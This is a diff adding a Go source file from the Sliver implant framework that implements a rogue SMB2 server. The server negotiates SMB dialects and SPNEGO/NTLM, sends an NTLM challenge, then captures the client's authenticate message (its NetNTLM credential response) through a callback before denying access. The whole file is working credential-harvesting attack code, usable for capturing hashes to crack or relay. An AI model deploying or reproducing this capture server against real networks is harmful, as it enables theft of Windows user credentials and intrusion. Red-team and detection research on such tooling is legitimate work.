@@ -0,0 +1,281 @@
+package ntlm
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/binary"
+	"io"
+	"net"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+)
+
+const (
+	smb2Negotiate    = 0x0000
+	smb2SessionSetup = 0x0001
+
+	smb2HeaderSize       = 64
+	smb2FlagsServerToRed = 0x00000001
+
+	statusMoreProcessingRequired = 0xc0000016
+	statusAccessDenied           = 0xc0000022
+	statusNotSupported           = 0xc00000bb
+
+	// smb2Wildcard - Answer to an smb1 negotiate, the client negotiates again with smb2
+	smb2Wildcard = 0x02ff
+
+	// smbTimeout - Clients authenticate right away, don't keep idle connections
+	smbTimeout = 30 * time.Second
+)
+
+var (
+	smb1Magic = []byte{0xff, 'S', 'M', 'B'}
+	smb2Magic = []byte{0xfe, 'S', 'M', 'B'}
+
+	// dialects - Dialects we answer with in order of preference, 3.1.1 needs
+	// negotiate contexts so it isn't one of them
+	dialects = []uint16{0x0210, 0x0202, 0x0302, 0x0300}
+
+	spnegoOID  = []byte{0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02}
+	ntlmsspOID = []byte{0x06, 0x0a, 0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x02, 0x0a}
+)
+
+// ServeSMB - Speak just enough smb2 for the client to send its ntlm authentication,
+// then deny access and close the connection
+func ServeSMB(conn net.Conn, domain string, computer string, captured func(*Authenticate, []byte)) error {
+	defer conn.Close()
+	conn.SetDeadline(time.Now().Add(smbTimeout))
+	var serverChallenge []byte
+	sessionID := make([]byte, 8)
+	rand.Read(sessionID)
+	for {
+		packet, err := readPacket(conn)
+		if err != nil {
+			return err
+		}
+		if bytes.HasPrefix(packet, smb1Magic) {
+			err = writePacket(conn, negotiateResponse(0, smb2Wildcard))
+			if err != nil {
+				return err
+			}
+			continue
+		}
+		if len(packet) < smb2HeaderSize || !bytes.HasPrefix(packet, smb2Magic) {
+			return errInvalid
+		}
+		command := binary.LittleEndian.Uint16(packet[12:])
+		messageID := binary.LittleEndian.Uint64(packet[24:])
+		switch command {
+
+		case smb2Negotiate:
+			dialect := selectDialect(packet)
+			if dialect == 0 {
+				writePacket(conn, errorResponse(command, statusNotSupported, messageID, 0))
+				return errInvalid
+			}
+			err = writePacket(conn, negotiateResponse(messageID, dialect))
+
+		case smb2SessionSetup:
+			session := binary.LittleEndian.Uint64(sessionID)
+			token := securityBuffer(packet, smb2HeaderSize+12)
+			index := bytes.Index(token, signature)
+			if index < 0 {
+				writePacket(conn, errorResponse(command, statusAccessDenied, messageID, session))
+				return errInvalid
+			}
+			msgType, err := messageType(token[index:])
+			if err != nil {
+				return err
+			}
+			switch msgType {
+			case negotiateMessage:
+				serverChallenge = make([]byte, 8)
+				rand.Read(serverChallenge)
+				challenge := NewChallenge(serverChallenge, domain, computer, time.Now())
+				err = writePacket(conn, sessionSetupResponse(messageID, session, negTokenResp(challenge)))
+				if err != nil {
+					return err
+				}
+			case authenticateMessage:
+				auth, err := ParseAuthenticate(token[index:])
+				if err == nil && serverChallenge != nil {
+					captured(auth, serverChallenge)
+				}
+				// {{if .Config.Debug}}
+				if err != nil {
+					log.Printf("[ntlm] Failed to parse authenticate message: %s", err)
+				}
+				// {{end}}
+				writePacket(conn, errorResponse(command, statusAccessDenied, messageID, session))
+				return err
+			default:
+				return errInvalid
+			}
+
+		default:
+			writePacket(conn, errorResponse(command, statusNotSupported, messageID, 0))
+			return errInvalid
+		}
+		if err != nil {
+			return err
+		}
+	}
+}
+
+// readPacket - Read a direct tcp (netbios session service) framed packet
+func readPacket(conn io.Reader) ([]byte, error) {
+	header := make([]byte, 4)
+	for {
+		_, err := io.ReadFull(conn, header)
+		if err != nil {
+			return nil, err
+		}
+		if header[0] == 0x00 {
+			break
+		}
+		// Keep alives and other netbios messages have no data we need
+	}
+	length := int(header[1])<<16 | int(header[2])<<8 | int(header[3])
+	if maxMessageSize < length {
+		return nil, errInvalid
+	}
+	packet := make([]byte, length)
+	_, err := io.ReadFull(conn, packet)
+	return packet, err
+}
+
+func writePacket(conn io.Writer, packet []byte) error {
+	length := len(packet)
+	_, err := conn.Write(append([]byte{0x00, byte(length >> 16), byte(length >> 8), byte(length)}, packet...))
+	return err
+}
+
+func selectDialect(packet []byte) uint16 {
+	if len(packet) < smb2HeaderSize+36 {
+		return 0
+	}
+	count := int(binary.LittleEndian.Uint16(packet[smb2HeaderSize+2:]))
+	offered := map[uint16]bool{}
+	for index := 0; index < count; index++ {
+		offset := smb2HeaderSize + 36 + index*2
+		if len(packet) < offset+2 {
+			break
+		}
+		offered[binary.LittleEndian.Uint16(packet[offset:])] = true
+	}
+	for _, dialect := range dialects {
+		if offered[dialect] {
+			return dialect
+		}
+	}
+	return 0
+}
+
+// securityBuffer - The buffer referenced by the offset and length at offset
+func securityBuffer(packet []byte, offset int) []byte {
+	if len(packet) < offset+4 {
+		return nil
+	}
+	start := int(binary.LittleEndian.Uint16(packet[offset:]))
+	length := int(binary.LittleEndian.Uint16(packet[offset+2:]))
+	if len(packet) < start+length {
+		return nil
+	}
+	return packet[start : start+length]
+}
+
+func smb2Header(command uint16, status uint32, messageID uint64, sessionID uint64) []byte {
+	header := make([]byte, smb2HeaderSize)
+	copy(header, smb2Magic)
+	binary.LittleEndian.PutUint16(header[4:], smb2HeaderSize)
+	binary.LittleEndian.PutUint32(header[8:], status)
+	binary.LittleEndian.PutUint16(header[12:], command)
+	binary.LittleEndian.PutUint16(header[14:], 1) // Credits granted
+	binary.LittleEndian.PutUint32(header[16:], smb2FlagsServerToRed)
+	binary.LittleEndian.PutUint64(header[24:], messageID)
+	binary.LittleEndian.PutUint64(header[40:], sessionID)
+	return header
+}
+
+func negotiateResponse(messageID uint64, dialect uint16) []byte {
+	token := negTokenInit()
+	body := make([]byte, 64)
+	binary.LittleEndian.PutUint16(body, 65)
+	binary.LittleEndian.PutUint16(body[2:], 0x01) // Signing enabled, not required
+	binary.LittleEndian.PutUint16(body[4:], dialect)
+	rand.Read(body[8:24]) // Server guid
+	binary.LittleEndian.PutUint32(body[28:], 65536)
+	binary.LittleEndian.PutUint32(body[32:], 65536)
+	binary.LittleEndian.PutUint32(body[36:], 65536)
+	binary.LittleEndian.PutUint64(body[40:], filetime(time.Now()))
+	binary.LittleEndian.PutUint16(body[56:], smb2HeaderSize+64)
+	binary.LittleEndian.PutUint16(body[58:], uint16(len(token)))
+	packet := append(smb2Header(smb2Negotiate, 0, messageID, 0), body...)
+	return append(packet, token...)
+}
+
+func sessionSetupResponse(messageID uint64, sessionID uint64, token []byte) []byte {
+	body := make([]byte, 8)
+	binary.LittleEndian.PutUint16(body, 9)
+	binary.LittleEndian.PutUint16(body[4:], smb2HeaderSize+8)
+	binary.LittleEndian.PutUint16(body[6:], uint16(len(token)))
+	packet := append(smb2Header(smb2SessionSetup, statusMoreProcessingRequired, messageID, sessionID), body...)
+	return append(packet, token...)
+}
+
+func errorResponse(command uint16, status uint32, messageID uint64, sessionID uint64) []byte {
+	body := make([]byte, 9)
+	binary.LittleEndian.PutUint16(body, 9)
+	return append(smb2Header(command, status, messageID, sessionID), body...)
+}
+
+// negTokenInit - The spnego hint of the negotiate response, ntlm is the
+// only mechanism we offer
+func negTokenInit() []byte {
+	return der(0x60, spnegoOID, der(0xa0, der(0x30, der(0xa0, der(0x30, ntlmsspOID)))))
+}
+
+// negTokenResp - Wraps the challenge, negState is accept-incomplete
+func negTokenResp(token []byte) []byte {
+	return der(0xa1, der(0x30,
+		der(0xa0, []byte{0x0a, 0x01, 0x01}),
+		der(0xa1, ntlmsspOID),
+		der(0xa2, der(0x04, token)),
+	))
+}
+
+func der(tag byte, contents ...[]byte) []byte {
+	content := bytes.Join(contents, nil)
+	length := len(content)
+	encoded := []byte{tag}
+	switch {
+	case length < 0x80:
+		encoded = append(encoded, byte(length))
+	case length < 0x100:
+		encoded = append(encoded, 0x81, byte(length))
+	default:
+		encoded = append(encoded, 0x82, byte(length>>8), byte(length))
+	}
+	return append(encoded, content...)
+}